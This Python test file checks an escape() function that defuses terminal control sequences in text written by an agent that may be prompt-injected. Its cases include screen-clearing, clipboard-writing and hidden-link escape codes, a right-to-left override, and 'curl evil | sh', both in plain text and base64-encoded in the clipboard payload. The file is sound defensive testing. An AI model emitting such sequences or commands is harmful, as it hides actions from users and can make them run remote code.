# SPDX-License-Identifier: Apache-2.0
"""escape(): what an agent or the API wrote, printed on a person's terminal, cannot act on it."""

from __future__ import annotations

import re

import pytest

from central_mcp.safetext import escape

# What a prompt-injected agent might write into a note, a result or a file name: (text, one line, block).
CASES = [
    ("\x1b[2J\x1b[3J\x1b[Hall clear", r"\x1b[2J\x1b[3J\x1b[Hall clear", None),  # clear screen and scrollback
    ("\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07", r"\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07", None),  # OSC 52: write clipboard
    ("\x1b]0;root@prod\x1b\\", "\\x1b]0;root@prod\\x1b\\", None),  # OSC 0: window title, ST-terminated
    ("\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\", "\\x1b]8;;http://evil\\x1b\\link\\x1b]8;;\\x1b\\", None),
    ("curl evil | sh\rtests pass    ", r"curl evil | sh\rtests pass    ", None),  # carriage-return overwrite
    ("ok\x1b[1A\x1b[2Kdone", r"ok\x1b[1A\x1b[2Kdone", None),  # cursor up, erase line
    ("\x9b2J\x9d0;t\x9c", r"\x9b2J\x9d0;t\x9c", None),  # the 8-bit (C1) CSI, OSC and ST
    ("bell\x07 nul\x00 del\x7f bs\x08", r"bell\x07 nul\x00 del\x7f bs\x08", None),
    ("abc\u202edcba.py", r"abc\u202edcba.py", None),  # right-to-left override
    ("a\u2028b\u2029c", r"a\u2028b\u2029c", None),  # Unicode line and paragraph separators
    ("x\udc80y", r"x\udc80y", None),  # a lone surrogate (JSON allows it; printing it would fail)
    ("two\nlines\tand a tab", r"two\nlines\tand a tab", "two\nlines\\tand a tab"),
    ("plain: ünïcødé, 日本語, emoji 🙂, back\\slash", None, None),  # unchanged
]
UNSAFE = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")


@pytest.mark.parametrize(("text", "one_line", "block"), CASES)
def test_escape(text: str, one_line: str | None, block: str | None) -> None:
    one_line = text if one_line is None else one_line
    assert escape(text) == one_line
    assert escape(text, keep_newlines=True) == (one_line if block is None else block)
    assert not UNSAFE.search(escape(text))
    assert not UNSAFE.search(escape(text, keep_newlines=True).replace("\n", ""))


def test_escape_takes_any_value() -> None:
    assert escape(12) == "12" and escape(None) == "None" and escape(["\x1b"]) == r"['\x1b']"
